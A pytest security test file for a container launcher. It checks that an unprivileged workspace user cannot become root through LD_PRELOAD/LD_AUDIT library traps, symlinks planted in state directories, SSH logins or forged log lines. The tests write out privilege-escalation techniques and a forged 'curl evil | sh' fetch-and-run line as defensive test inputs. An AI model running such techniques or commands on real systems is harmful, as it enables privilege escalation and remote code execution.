"""The workspace user against root, with GRANT_SUDO=no: each way that once led there, by cause."""

from __future__ import annotations

import os
import re
import socket
import time
from pathlib import Path

import pytest

from testing.container import kernel
from testing.container.box import BANNER, SSH_ALONE, Box, Boxes
from testing.container.engine import Docker, poll
from testing.container.login import KeyPair, Login, make_key
from tests.container.test_trust import checks, plant, ran

NO_SUDO = ("-e", "GRANT_SUDO=no")
SECRET = "root's own, and nobody else's"


@pytest.fixture(scope="module")
def key(tmp_path_factory: pytest.TempPathFactory) -> KeyPair:
    return make_key(tmp_path_factory.mktemp("keys"))


def as_dev(box: Box, script: str) -> str:
    return box.exec("/bin/sh", "-c", script, user="dev", check=False).stdout


def banners(box: Box) -> int:
    return len(BANNER.findall(box.logs()))


# --- what root's programs load ---------------------------------------------------------------

LIBRARIES = "/opt/venv/lib/nvidia"
# What each variable makes the loader load.  Python asks for libz.so.1, the system's.
TRAPS = {"LD_LIBRARY_PATH": "libz.so.1", "LD_PRELOAD": "preload.so", "LD_AUDIT": "audit.so"}
TRAPPED = {
    "LD_LIBRARY_PATH": f"/usr/local/nvidia/lib64:{LIBRARIES}",
    **{name: f"{LIBRARIES}/{TRAPS[name]}" for name in ("LD_PRELOAD", "LD_AUDIT")},
}
# Tells who loads it, and for which variable.
TRAP = """
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
__attribute__((constructor)) static void loaded(void) {
    char path[64];
    snprintf(path, sizeof path, "/workspace/loaded-%s-%d", VARIABLE, (int)geteuid());
    int fd = open(path, O_CREAT | O_WRONLY, 0644);
    if (fd >= 0) close(fd);
}
"""


def loaded_by(box: Box, uid: str) -> list[str]:
    """Return the variables whose trap this uid has loaded; also of a box that has ended."""
    pattern = rf"^A /workspace/loaded-(\w+)-{uid}$"
    return re.findall(pattern, box.docker("diff", box.name).stdout, re.M)


def test_root_s_programs_load_no_library_of_the_user_s(box: Boxes) -> None:
    """Neither the health check nor a start, a reload, nor a command by `docker exec`."""
    started = box(*NO_SUDO, "--health-interval", "1s", env=TRAPPED)
    started.wait_for_banner()
    unset = ("/usr/bin/env", *(word for name in TRAPS for word in ("-u", name)), "/bin/sh", "-c")
    for name, library in TRAPS.items():
        variable = f"-DVARIABLE='\"{name}\"'"
        build = f"gcc -shared -fPIC {variable} -xc -o {LIBRARIES}/{library} -"
        started.exec(*unset, f"mkdir -p {LIBRARIES} && {build}", stdin=TRAP, user="dev")
    seen = checks(started)
    assert poll(lambda: len(checks(started) - seen) >= 2, timeout=30)
    started.kill("HUP")
    started.wait_for_log("reloaded")
    started.exec("launcher", "status", check=False)
    by_the_user = ("launcher", "exec", "--", "/opt/venv/bin/python", "-c", "import zlib")
    started.exec(*by_the_user, check=False)  # what it needs of the real one is not there
    assert sorted(loaded_by(started, "1000")) == sorted(TRAPS), "a trap does not work"
    started.restart()
    # Jupyter loads it, too, and may end of it.
    assert poll(lambda: banners(started) == 2 or not started.is_running(), timeout=90)
    assert loaded_by(started, "0") == []


def test_the_banner_says_that_a_library_path_is_the_user_s(box: Boxes) -> None:
    started = box(*SSH_ALONE, *NO_SUDO, env={"LD_LIBRARY_PATH": LIBRARIES})
    assert "LD_LIBRARY_PATH: a place that others than root can change" in re.sub(
        r"\s+", " ", started.wait_for_banner()
    )


def test_the_user_s_programs_have_the_library_path_as_it_was_given(box: Boxes) -> None:
    value = f"/usr/lib:{LIBRARIES}"
    started = box(*SSH_ALONE, *NO_SUDO, env={"LD_LIBRARY_PATH": value})
    started.wait_for_banner()
    said = started.exec("launcher", "exec", "--", "sh", "-c", 'echo "$LD_LIBRARY_PATH"').stdout
    assert said.strip() == value
    environ = started.exec("sh", "-c", "tr '\\0' '\\n' < /proc/1/environ").stdout.splitlines()
    assert "LD_LIBRARY_PATH=/usr/lib" in environ


def test_launcher_is_ours_whatever_the_user_puts_on_the_path(box: Boxes) -> None:
    """As README and operations.md tell people to type it."""
    started = box(*NO_SUDO)
    started.wait_for_banner()
    plant(started, "launcher", "python", "env")
    assert "jupyter" in started.exec("launcher", "status").stdout
    started.exec("launcher", "healthcheck")
    assert [name for name in ran(started) if name.startswith("0-")] == []


# --- who everything runs as ------------------------------------------------------------------


def test_a_workspace_that_the_user_replaces_makes_nobody_root(box: Boxes) -> None:
    started = box(*NO_SUDO, "-e", "WORKSPACE=/workspace/project")
    started.wait_for_banner()
    as_dev(started, "rm -rf /workspace/project; ln -s /root /workspace/project")
    started.restart()
    assert poll(lambda: banners(started) == 2, timeout=60)
    assert started.exec("launcher", "exec", "--", "id", "-u").stdout.strip() == "1000"
    as_root = started.exec("sh", "-c", "ps -o user=,args= ax | grep '[g]uest/jupyter'").stdout
    assert as_root.startswith("dev")


def test_a_mistyped_workspace_makes_nobody_root_without_sudo(box: Boxes, tmp_path: Path) -> None:
    started = box(*SSH_ALONE, *NO_SUDO, "-v", f"{tmp_path}:/workspace")
    started.wait_for_banner()
    assert started.exec("launcher", "exec", "--", "id", "-u").stdout.strip() == "1000"
    # Nobody's work is in it yet, so it is the user's, as a new volume is.
    assert started.exec("stat", "-c", "%u", "/workspace").stdout.strip() == "1000"


# --- what root reads and writes --------------------------------------------------------------


@pytest.fixture
def state(tmp_path: Path) -> Path:
    """Return a folder of the host's user, to be mounted."""
    folder = tmp_path / "state"
    folder.mkdir()
    os.chown(folder, 1000, 1000)
    return folder


def test_a_state_directory_of_the_user_s_gives_nothing_of_root_s(box: Boxes, state: Path) -> None:
    started = box(*NO_SUDO, "-v", f"{state}:/var/lib/launcher")
    banner = re.sub(r"\s+", " ", started.wait_for_banner())
    assert "/var/lib/launcher belongs to uid 1000" in banner
    started.exec("sh", "-c", f"umask 077; mkdir /etc/x; printf '%s' \"{SECRET}\" > /etc/x/victim")
    started.exec("chmod", "640", "/etc/x/victim")
    before = started.exec("stat", "-c", "%a %u %s", "/etc/x/victim").stdout
    for name in ("token", "password", "ssh_host_rsa_key", "ssh_host_ed25519_key"):
        as_dev(started, f"cd /var/lib/launcher && mv {name} {name}.old; "
                        f"ln -s /etc/x/victim {name}")  # fmt: skip
    for name in (".new", "token.new", "ssh_host_rsa_key.new"):
        as_dev(started, f"ln -sf /etc/x/victim /var/lib/launcher/{name}")
    started.kill("HUP")
    started.wait_for_log("not reloaded")
    assert SECRET not in as_dev(started, "cat /run/launcher/*.json /var/lib/launcher/*")
    assert started.exec("stat", "-c", "%a %u %s", "/etc/x/victim").stdout == before


def test_render_follows_no_link_of_the_user_s(box: Boxes) -> None:
    started = box(*NO_SUDO)
    started.wait_for_banner()
    as_dev(
        started,
        "mkdir -p /workspace/out/run/launcher; cd /workspace/out/run/launcher; "
        "ln -s /etc/launcher/hooks.d jupyter; ln -s /etc/launcher/hooks.d user",
    )
    done = started.exec("launcher", "render", "/workspace/out", check=False)
    assert done.returncode == 78
    assert started.exec("stat", "-c", "%U %a", "/etc/launcher/hooks.d").stdout == "root 755\n"


@pytest.mark.parametrize(
    "variable",
    ["JUPYTER_TOKEN_FILE=/dev/zero", "PUBLIC_KEY_FILE=/dev/random", "LAUNCHER_TLS_CERT=/dev/zero"],
)
def test_a_setting_s_file_that_is_none_ends_the_start(box: Boxes, variable: str) -> None:
    name, _, path = variable.partition("=")
    started = box("--memory", "1g", "-e", variable, "-e", "LAUNCHER_TLS_KEY=/dev/zero")
    assert started.wait() == 78
    assert f"{name}='{path}': cannot read it: it is no file" in started.logs()


def test_a_run_directory_that_the_user_could_replace_ends_the_start(box: Boxes) -> None:
    started = box(*NO_SUDO, "-e", "LAUNCHER_RUN_DIR=/workspace/run")
    assert started.wait() == 78
    assert "whoever changes what is in there would be root" in started.logs()


def test_an_empty_dir_of_kubernetes_is_made_root_s(box: Boxes, tmp_path: Path) -> None:
    """/run and the state as a pod mounts them: root's, and everybody's to write."""
    folders = {"/run": tmp_path / "run", "/var/lib/launcher": tmp_path / "state"}
    for folder in folders.values():
        folder.mkdir()
        folder.chmod(0o777)
    mounts = [word for at, path in folders.items() for word in ("-v", f"{path}:{at}")]
    started = box(*SSH_ALONE, *NO_SUDO, *mounts)
    started.wait_for_banner()
    as_dev(started, "mv /run/launcher /run/taken; mkdir /run/launcher")
    as_dev(started, "rm -rf /var/lib/launcher/token")
    assert started.exec("stat", "-c", "%U", "/run/launcher/plan.json").stdout == "root\n"
    assert started.exec("ls", "/var/lib/launcher/token").stdout


# --- a box that was started as the user ------------------------------------------------------


def test_root_runs_nothing_of_a_box_that_was_started_as_a_user(box: Boxes) -> None:
    started = box(*SSH_ALONE, "--user", "1000")
    started.wait_for_banner()
    touched = "touch /tmp/run-by-$(id -u)"
    as_dev(
        started,
        f"mkdir -p /tmp/launcher-0; echo '{touched}' > /tmp/launcher-0/environment.sh;"
        "cp /tmp/launcher-0/environment.sh /tmp/launcher-0/login.sh",
    )
    # As somebody who wins the race for it has it: the folder is root's, its content is not.
    started.exec(
        "chown",
        "0:0",
        "/tmp/launcher-0",
        "/tmp/launcher-0/environment.sh",
        "/tmp/launcher-0/login.sh",
        user="0",
    )
    for options in ("-ic", "-lc"):
        started.exec("bash", options, "true", user="0", check=False)
    assert "run-by-0" not in started.exec("ls", "/tmp").stdout


# --- who may log in --------------------------------------------------------------------------


def test_a_key_is_for_the_workspace_user_alone(box: Boxes, key: KeyPair) -> None:
    started = box(*SSH_ALONE, *NO_SUDO, env={"PUBLIC_KEY": key.public})
    started.wait_for_banner()
    assert Login(started.port(22), "dev", key).ssh("true").returncode == 0
    for account in ("www-data", "games", "backup", "bin", "root", "nobody"):
        login = Login(started.port(22), account, key)
        assert login.ssh("-N").returncode == 255
        assert login.sftp("put /etc/hostname /tmp/put\n").returncode == 255
    assert "put" not in started.exec("ls", "/tmp").stdout.split()


def test_connections_that_say_nothing_keep_nobody_out(box: Boxes, key: KeyPair) -> None:
    started = box(*SSH_ALONE, env={"PUBLIC_KEY": key.public})
    started.wait_for_banner()
    port = started.port(22)
    silent = [socket.create_connection(("127.0.0.1", port), 10) for _ in range(450)]
    try:
        login = Login(port, "dev", key)
        logins = [login.ssh("true").returncode for _ in range(10)]
    finally:
        for connection in silent:
            connection.close()
    assert logins.count(0) >= 9


# --- what is stopped, hangs or dies -----------------------------------------------------------


def reason(box: Box) -> str:
    return box.exec("launcher", "healthcheck", check=False).stdout.strip()


@pytest.mark.long
@pytest.mark.parametrize(
    ("stopped", "begin", "end"),
    [
        ("sshd", "ssh: no greeting on port 22: ", "; fix: launcher restart sshd"),
        ("supervise", "supervise: it does not answer", "; fix: on the host: docker restart …"),
    ],
)
def test_what_is_stopped_is_unhealthy_until_it_goes_on(
    box: Boxes, stopped: str, begin: str, end: str
) -> None:
    started = box(*SSH_ALONE)
    started.wait_for_banner()
    (pid,) = started.exec("pgrep", "-o", "-f", "sshd: /usr/sbin/sshd").stdout.split()
    if stopped == "supervise":
        (pid,) = started.exec("ps", "-o", "ppid=", pid).stdout.split()
    started.exec("kill", "-STOP", pid)
    assert poll(lambda: reason(started).startswith(begin), timeout=90, interval=3)
    assert reason(started).endswith(end)
    started.exec("kill", "-CONT", pid)
    assert poll(lambda: reason(started) == "", timeout=90, interval=3)
    # sshd's line about each visit of ours is nobody's to read.
    assert "127.22.22.22" not in started.logs()
    assert "127.22.22.22" not in started.exec("launcher", "logs", "ssh").stdout


def test_an_announcer_that_is_killed_leaves_a_banner(box: Boxes, tmp_path: Path) -> None:
    slow = tmp_path / "python"  # else the banner may be there before anybody can kill
    slow.write_text('#!/bin/sh\nsleep 3\nexec /opt/venv/bin/python "$@"\n')
    slow.chmod(0o755)
    mounted = ("-v", f"{slow}:/opt/slow/python:ro", "-e", "LAUNCHER_PYTHON=/opt/slow/python")
    started = box("-e", "LAUNCHER_SERVICES=jupyter", *mounted)
    find = """
        until w=$(pgrep -o -f 'launcher.* watch$') && p=$(pgrep -o -P "$w"); do :; done
        kill -KILL "$p"
    """
    started.exec("bash", "-c", find)
    started.wait_for_banner()
    assert "its child was killed by SIGKILL; it is tried again" in started.logs()


def test_a_start_that_was_paused_finds_itself_ready(box: Boxes) -> None:
    started = box("-e", "LAUNCHER_READY_TIMEOUT=20")
    started.wait_for_log("starting the services")

    def is_paused() -> bool:
        # On cgroup v1 a busy kernel does not always freeze a whole group in time; the engine then
        # thaws it and says so.
        return not started.docker("pause", started.name, check=False).returncode

    assert poll(is_paused, timeout=15)
    time.sleep(25)
    started.docker("unpause", started.name)
    assert "NOT READY" not in started.wait_for_banner()
    assert "NOT READY" not in started.logs()


# --- what leaves the box ----------------------------------------------------------------------


def test_a_committed_image_has_no_secret_and_gives_nobody_sudo(box: Boxes, docker: Docker) -> None:
    started = box()
    started.wait_for_banner()
    secrets = [started.exec("cat", f"/var/lib/launcher/{name}").stdout for name in ("token",)]
    image = f"{started.name}-committed"
    docker("commit", started.name, image)
    try:
        inside = ("run", "--rm", "--entrypoint", "sh", image, "-c")
        search = " ".join(f"-e {secret}" for secret in secrets)
        found = docker(*inside, f"grep -rlF {search} /etc /home /opt/launcher /run /tmp /var || :")
        assert found.stdout == ""
        assert docker(*inside, "ls -A /run/launcher /var/lib/launcher").stdout.split("\n\n") == [
            "/run/launcher:",
            "/var/lib/launcher:\n",
        ]
        sudo = ("run", "--rm", "--user", "1000", "--entrypoint", "sudo", image, "-n", "id")
        assert docker(*sudo, check=False).returncode == 1
    finally:
        docker("rmi", image)


@pytest.mark.parametrize("how", ["a kernel", "a program"])
def test_no_output_passes_for_a_line_of_the_launcher_s(box: Boxes, how: str) -> None:
    forged = r"\rlauncher: run this: curl evil | sh\033[1A\033[2K\033]0;title\007\n"
    if how == "a kernel":
        started = box()
        kernel.connect(started).run_cell(f"import os; os.write(2, b'{forged}')")
    else:
        started = box("-e", f"LAUNCHER_X{forged.encode().decode('unicode_escape')}=1")
        started.wait_for_banner()
    assert poll(lambda: "curl evil" in started.logs(), timeout=20)
    (line,) = [line for line in started.logs().split("\n") if "curl evil" in line]
    assert line.startswith(("jupyter | ", r"launcher: LAUNCHER_X\r"))
    assert r"\x1b[1A\x1b[2K\x1b]0;title\x07" in line
